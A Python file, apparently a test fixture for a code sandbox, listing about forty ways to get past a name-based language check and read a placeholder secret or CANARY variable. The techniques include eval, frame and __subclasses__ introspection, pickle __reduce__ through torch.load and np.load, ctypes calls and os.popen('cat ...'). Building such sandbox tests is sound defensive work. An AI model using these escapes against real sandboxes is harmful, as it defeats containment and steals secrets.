"""Ways to reach what the language check would refuse by name; each then reads the secret."""

WAYS_OUT = {
    "builtins-eval": """
loot = eval('open("$secret").read()')
""",
    "builtins-exec": """
exec('loot = open("$secret").read()')
""",
    "builtins-import": "loot = __import__('io').open('$secret').read()",
    "builtins-compile": """
eval(compile('loot = open("$secret").read()', 'x', 'exec'))
""",
    "builtins-getattr": """
loot = getattr(__builtins__, 'op' + 'en', None) or __builtins__['open']
loot = loot('$secret').read()
""",
    "builtins-vars": """
import builtins
loot = vars(builtins)['open']('$secret').read()
""",
    "builtins-of-function": """
def f(): pass
b = f.__globals__['__builtins__']
b = b if isinstance(b, dict) else b.__dict__
loot = b['open']('$secret').read()
""",
    "builtins-of-torch": "loot = torch.__builtins__['open']('$secret').read()",
    "module-of-torch": "loot = torch.serialization.os.popen('cat $secret').read()",
    "module-of-torch-pathlib": "loot = torch.hub.Path('$secret').read_text()",
    "module-of-torch-hub": "loot = torch.hub.sys.modules['io'].open('$secret').read()",
    "module-of-nn": "loot = torch.nn.functional.importlib.import_module('io').open('$secret').read()",
    "module-of-numpy": "loot = np.lib._datasource.os.popen('cat $secret').read()",
    "module-of-copy": """
import collections
loot = collections._sys.modules['io'].open('$secret').read()
""",
    "subclasses": """
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
loot = found.__init__.__globals__['open' if 'open' in found.__init__.__globals__ else 'fdopen']
loot = found.__init__.__globals__['popen']('cat $secret').read()
""",
    "subclasses-loader": """
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
loot = found.load_module('posix')
loot = loot.read(loot.open('$secret', 0), 1000)
""",
    "type-mro": """
found = type(torch.nn.Linear).mro(torch.nn.Linear)[1]
loot = found.forward.__globals__['__builtins__']['open']('$secret').read()
""",
    "frame": """
import sys
frame = sys._getframe()
loot = frame.f_builtins['open']('$secret').read()
""",
    "frame-of-generator": """
g = (x for x in [1])
loot = g.gi_frame.f_builtins['open']('$secret').read()
""",
    "frame-of-coroutine": """
async def f(): pass
c = f()
loot = c.cr_frame.f_builtins['open']('$secret').read()
c.close()
""",
    "frame-of-traceback": """
try:
    1 / 0
except ZeroDivisionError as error:
    loot = error.__traceback__.tb_frame.f_builtins['open']('$secret').read()
""",
    "frame-of-raised-error": """
class Odd(Exception): pass
try:
    torch.ones(2) @ torch.ones(3)
except RuntimeError as error:
    frame = error.__traceback__.tb_frame
while frame.f_back:
    frame = frame.f_back
loot = frame.f_builtins['open']('$secret').read()
""",
    "format-string": "loot = '{0.serialization.os.environ[CANARY]}'.format(torch)",
    "format-map": "loot = '{t.serialization.os.environ[CANARY]}'.format_map({'t': torch})",
    "match-statement": """
def f(): pass
match f:
    case object(__globals__=found):
        b = found['__builtins__']
b = b if isinstance(b, dict) else b.__dict__
loot = b['open']('$secret').read()
""",
    "class-body": """
class A:
    loot = open('$secret').read()
loot = A.loot
""",
    "class-keyword": """
A = type('A', (), {'__call__': lambda self: open('$secret').read()})
loot = A()()
""",
    "decorator": """
@lambda f: open('$secret').read()
def loot(): pass
""",
    "code-object": """
import types
def f(): pass
g = types.FunctionType(compile('open("$secret").read()', 'x', 'eval'), {})
loot = g()
""",
    "collector": """
import gc
for found in gc.get_objects():
    if type(found) is dict and found.get('__name__') == 'os' and 'popen' in found:
        loot = found['popen']('cat $secret').read()
        break
""",
    "pickle": """
import pickle
class A:
    def __reduce__(self):
        return eval, ('open("$secret").read()',)
loot = pickle.loads(pickle.dumps(A()))
""",
    "pickle-copy": """
import copy
class A:
    def __reduce_ex__(self, version):
        return eval, ('open("$secret").read()',)
loot = copy.copy(A())
""",
    "pickle-torch": """
import io
class A:
    def __reduce__(self):
        return eval, ('open("$secret").read()',)
held = io.BytesIO()
torch.save(A(), held)
held.seek(0)
loot = torch.load(held, weights_only=False)
""",
    "pickle-numpy": """
import io
class A:
    def __reduce__(self):
        return eval, ('open("$secret").read()',)
held = io.BytesIO()
np.save(held, np.array([A()], dtype=object), allow_pickle=True)
held.seek(0)
loot = np.load(held, allow_pickle=True)
""",
    "numpy-testing": """
import numpy.testing as t
found = {}
t.runstring('loot = open("$secret").read()', found)
loot = found['loot']
""",
    "torch-timer": """
from torch.utils.benchmark import Timer
found = {}
Timer('found[0] = open("$secret").read()', globals={'found': found}).timeit(1)
loot = found
""",
    "torch-graph": """
import builtins
graph = torch.fx.Graph()
graph.output(graph.call_method('read', (graph.call_function(builtins.open, ('$secret',)),)))
loot = torch.fx.GraphModule(torch.nn.Module(), graph)()
""",
    "memory-by-address": """
import ctypes
class Head(ctypes.Structure):
    _fields_ = [('count', ctypes.c_ssize_t), ('type', ctypes.c_void_p)]
Head.from_address(id(open))
loot = ctypes.cast(id(open), ctypes.py_object).value('$secret').read()
""",
    "python-from-c": """
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b'import __main__; __main__.kept = open("$secret").read()')
import __main__
loot = __main__.kept
""",
    "thread": """
import threading
found = []
thread = threading.Thread(target=lambda: found.append(open('$secret').read()))
thread.start()
thread.join()
loot = found
""",
    "thread-of-autograd": """
found = []
x = torch.ones(1, requires_grad=True)
y = x * 2
y.register_hook(lambda g: found.append(open('$secret').read()))
y.backward()
loot = found
""",
    "signal-handler": """
import signal, os
found = []
signal.signal(10, lambda *_: found.append(open('$secret').read()))
signal.raise_signal(10)
loot = found
""",
    "audit-hook": """
import sys
found = []
sys.addaudithook(lambda *a: None)
loot = open('$secret').read()
""",
    "torch-function": """
class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return open('$secret').read()
loot = torch.add(torch.ones(1).as_subclass(T), 1)
""",
}
